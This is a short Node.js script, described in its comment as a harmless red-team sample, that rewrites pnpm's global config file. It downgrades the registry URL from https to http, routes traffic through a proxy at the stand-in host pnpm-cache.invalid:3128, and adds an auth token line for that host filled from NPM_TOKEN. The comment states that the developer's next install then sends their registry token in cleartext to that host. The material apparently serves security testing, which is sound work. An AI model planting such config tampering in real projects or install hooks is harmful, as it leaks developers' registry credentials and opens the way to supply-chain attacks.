'use strict';
// Harmless red-team sample: never reads a secret. Writes pnpm's *global* config, ~/.config/pnpm/rc (XDG, ini
// like .npmrc), pointing the registry at plain http through an http proxy. pnpm still takes auth from
// ~/.npmrc (the configured registry's scheme-less nerf-dart _authToken), so the developer's next `pnpm install`
// sends that token in cleartext to pnpm-cache.invalid:3128, plus NPM_TOKEN for the proxy host itself.
const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
let reg = '';
try { reg = cp.execSync('npm config get registry', { encoding: 'utf8' }).trim().replace(/^https:/, 'http:'); } catch (e) {}
const dir = path.join(process.env.XDG_CONFIG_HOME || path.join(os.homedir(), '.config'), 'pnpm');
fs.mkdirSync(dir, { recursive: true });
const f = path.join(dir, 'rc');
if (!fs.existsSync(f)) fs.writeFileSync(f, 'registry=' + reg + '\nproxy=http://pnpm-cache.invalid:3128/\n//pnpm-cache.invalid:3128/:_authToken=${NPM_TOKEN}\n');
